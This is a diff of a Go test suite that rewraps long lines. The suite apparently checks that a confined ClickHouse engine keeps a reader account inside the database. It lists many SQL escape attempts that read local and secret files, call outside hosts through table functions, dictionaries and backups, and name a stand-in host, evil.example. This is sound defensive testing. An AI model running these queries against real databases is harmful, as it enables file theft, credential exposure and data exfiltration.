@@ -44,7 +44,8 @@ func newPrey(t *testing.T) *prey {
 			t.Fatal(err)
 		}
 	}
-	for _, path := range []string{"outside/file", "outside/file.csv", "outside/file.json", "outside/schema.proto", "outside/schema.capnp", "secrets/nats-token", "secrets/key"} {
+	for _, path := range []string{"outside/file", "outside/file.csv", "outside/file.json", "outside/schema.proto", "outside/schema.capnp",
+		"secrets/nats-token", "secrets/key"} {
 		if err := os.WriteFile(filepath.Join(top, path), []byte(p.canary+"\n"), 0o666); err != nil {
 			t.Fatal(err)
 		}
@@ -148,7 +149,8 @@ type attempt struct {
 func (p *prey) fill(s string) string {
 	return strings.NewReplacer(
 		"{file}", filepath.Join(p.outside, "file"), "{out}", p.outside, "{new}", filepath.Join(p.outside, "new"),
-		"{writer}", filepath.Join(filepath.Dir(p.outside), "secrets", engine.WriterSecret), "{nats}", filepath.Join(filepath.Dir(p.outside), "secrets", "nats-token"),
+		"{writer}", filepath.Join(filepath.Dir(p.outside), "secrets", engine.WriterSecret), "{nats}",
+		filepath.Join(filepath.Dir(p.outside), "secrets", "nats-token"),
 		"{data}", filepath.Join(p.e.Dir(), "data"), "{engine}", p.e.Dir(), "{web}", p.web, "{port}", p.web[strings.LastIndexByte(p.web, ':')+1:],
 		"{http}", p.e.HTTPAddr(), "{tcp}", p.e.TCPAddr()).Replace(s)
 }
@@ -157,7 +159,8 @@ func (p *prey) fill(s string) string {
 func (p *prey) overHTTP(a attempt, user, password, origin string) (status int, header http.Header, said string) {
 	ctx, cancel := context.WithTimeout(p.Context(), 60*time.Second)
 	defer cancel()
-	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+p.e.HTTPAddr()+"/?"+p.fill(a.params), strings.NewReader(p.fill(a.sql)))
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+p.e.HTTPAddr()+"/?"+p.fill(a.params),
+		strings.NewReader(p.fill(a.sql)))
 	if err != nil {
 		p.Fatal(err)
 	}
@@ -181,7 +184,8 @@ func (p *prey) overHTTP(a attempt, user, password, origin string) (status int, h
 func (p *prey) natively(a attempt, user, password string) (string, error) {
 	ctx, cancel := context.WithTimeout(p.Context(), 50*time.Second)
 	defer cancel()
-	conn, err := clickhouse.Open(&clickhouse.Options{Addr: []string{p.e.TCPAddr()}, Auth: clickhouse.Auth{Username: user, Password: password}, MaxOpenConns: 1})
+	conn, err := clickhouse.Open(&clickhouse.Options{Addr: []string{p.e.TCPAddr()}, Auth: clickhouse.Auth{Username: user, Password: password},
+		MaxOpenConns: 1})
 	if err != nil {
 		return "", err
 	}
@@ -228,7 +232,8 @@ func (p *prey) natively(a attempt, user, password string) (string, error) {
 
 // secrets are texts that no answer may hold.
 func (p *prey) secrets() map[string]string {
-	return map[string]string{"the canary": p.canary, "/etc/passwd": "root:x:0", "the writer's password": p.e.Password(), "the reader's password": p.e.ReaderPassword()}
+	return map[string]string{"the canary": p.canary, "/etc/passwd": "root:x:0", "the writer's password": p.e.Password(),
+		"the reader's password": p.e.ReaderPassword()}
 }
 
 // attempts are the ways out of the database that are known, and some that are not yet: of each kind a few, so that a kind which a new
@@ -300,7 +305,8 @@ var attempts = []attempt{
 	{sql: "SELECT * FROM s3('http://{web}/b/k', 'LineAsString')"},
 	{sql: "SELECT * FROM s3Cluster('default', 'http://{web}/b/k', 'LineAsString')"},
 	{sql: "SELECT * FROM gcs('http://{web}/b/k', 'LineAsString')"},
-	{sql: "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YQ==;BlobEndpoint=http://{web}/a;', 'c', 'b', 'LineAsString')"},
+	{sql: "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YQ==;BlobEndpoint=http://{web}/a;', 'c', " +
+		"'b', 'LineAsString')"},
 	{sql: "SELECT * FROM hdfs('hdfs://{web}/f', 'LineAsString')"},
 	{sql: "SELECT * FROM iceberg('http://{web}/b/k')"},
 	{sql: "SELECT * FROM icebergS3('http://{web}/b/k')"},
@@ -321,9 +327,11 @@ var attempts = []attempt{
 	{sql: "SELECT * FROM ytsaurus('http://{web}', '//t', 'x', 'a String')"},
 	{sql: "SELECT * FROM format(AvroConfluent, '\\0\\0\\0\\0\\1x') SETTINGS format_avro_schema_registry_url = 'http://{web}'"},
 	{sql: "SELECT * FROM format(AvroConfluent, 'a String', '\\0\\0\\0\\0\\1x')", params: "format_avro_schema_registry_url=http://{web}"},
-	{sql: "SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178'))", params: "format_avro_schema_registry_url=http://localhost:{port}"},
+	{sql: "SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178'))",
+		params: "format_avro_schema_registry_url=http://localhost:{port}"},
 	{sql: "SELECT aiGenerateContent('http://{web}', 'x')"},
-	{sql: "SELECT 1 SETTINGS opentelemetry_start_trace_probability = 1, storage_file_read_method = 'mmap', stop_refreshable_materialized_views_on_startup = 1"},
+	{sql: "SELECT 1 SETTINGS opentelemetry_start_trace_probability = 1, storage_file_read_method = 'mmap', " +
+		"stop_refreshable_materialized_views_on_startup = 1"},
 	{sql: "SELECT catboostEvaluate('{file}', 1)"},
 	{sql: "SELECT hostName(), dictGet('http://{web}', 'a', 1)"},
 	{sql: "SELECT * FROM dictionary('d')"},
@@ -366,8 +374,10 @@ var attempts = []attempt{
 	{sql: "CREATE DATABASE u ENGINE = SQLite('{new}')"},
 	{sql: "CREATE DATABASE u ENGINE = MySQL('{web}', 'd', 'u', 'p')"},
 	{sql: "CREATE DATABASE u ENGINE = Backup('warpline', File('{out}'))"},
-	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(path '{file}' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)"},
-	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(url 'http://{web}/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)"},
+	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(path '{file}' format 'TSV')) LAYOUT(FLAT()) " +
+		"LIFETIME(0)"},
+	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(url 'http://{web}/' format 'TSV')) LAYOUT(FLAT()) " +
+		"LIFETIME(0)"},
 	{sql: "CREATE VIEW warpline.v AS SELECT file('{file}')"},
 	{sql: "CREATE MATERIALIZED VIEW warpline.v ENGINE = URL('http://{web}/', TSV) AS SELECT * FROM warpline.t"},
 	{sql: "ATTACH TABLE warpline.u FROM '{out}' (a String) ENGINE = MergeTree ORDER BY a"},
@@ -435,7 +445,8 @@ func TestReaderCannotLeaveTheDatabase(t *testing.T) {
 		t.Skip("this kernel cannot confine a process, which is said at start: " + why)
 	}
 	const evil = "http://evil.example"
-	for _, user := range []struct{ name, password string }{{"default", ""}, {engine.Reader, p.e.ReaderPassword()}, {"", ""}, {engine.Writer, ""}, {engine.Reader, ""}} {
+	for _, user := range []struct{ name, password string }{{"default", ""}, {engine.Reader, p.e.ReaderPassword()}, {"", ""},
+		{engine.Writer, ""}, {engine.Reader, ""}} {
 		for _, a := range attempts {
 			how := fmt.Sprintf("%q: %s ? %s", user.name, p.fill(a.sql), p.fill(a.params))
 			said := map[string]string{}
@@ -468,7 +479,8 @@ func TestReaderCannotLeaveTheDatabase(t *testing.T) {
 	}
 	p.unharmed()
 	want(t, "the tables afterwards", must(t, p.e, "SELECT count(), sum(a), any(tenant) FROM warpline.t"), "5\t10\ttheirs")
-	want(t, "users", must(t, p.e, "SELECT arrayStringConcat(groupArray(name), ',') FROM (SELECT name FROM system.users ORDER BY name)"), "default,reader,warpline")
+	want(t, "users", must(t, p.e, "SELECT arrayStringConcat(groupArray(name), ',') FROM (SELECT name FROM system.users ORDER BY name)"),
+		"default,reader,warpline")
 	want(t, "databases", must(t, p.e, "SELECT count() FROM system.tables WHERE database IN ('warpline', 'elsewhere', 'u')"), "2")
 }
 
@@ -491,7 +503,8 @@ func TestEngineIsConfined(t *testing.T) {
 	if why := p.e.Unconfined(); why != "" {
 		t.Skip("this kernel cannot confine a process: " + why)
 	}
-	const quick = " SETTINGS http_max_tries = 1, http_connection_timeout = 1, connect_timeout = 1, s3_max_connections = 1, s3_retry_attempts = 0"
+	const quick = " SETTINGS http_max_tries = 1, http_connection_timeout = 1, connect_timeout = 1, s3_max_connections = 1, " +
+		"s3_retry_attempts = 0"
 	for _, sql := range []string{
 		"SELECT file('{file}')",
 		"SELECT file('{writer}')",
@@ -517,7 +530,8 @@ func TestEngineIsConfined(t *testing.T) {
 		"BACKUP TABLE warpline.t TO File('{new}')",
 		"SELECT * FROM url('http://{web}/', 'LineAsString')" + quick,
 		"SELECT * FROM url('http://localhost:{port}/', 'LineAsString')" + quick,
-		"SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178')) SETTINGS format_avro_schema_registry_url = 'http://{web}', http_max_tries = 1",
+		"SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178')) SETTINGS format_avro_schema_registry_url = 'http://{web}', " +
+			"http_max_tries = 1",
 		"SELECT * FROM remote('{web}', 'warpline', 't')" + quick,
 		"SELECT * FROM mysql('{web}', 'd', 't', 'u', 'p')" + quick,
 		"SELECT * FROM postgresql('{web}', 'd', 't', 'u', 'p')" + quick,
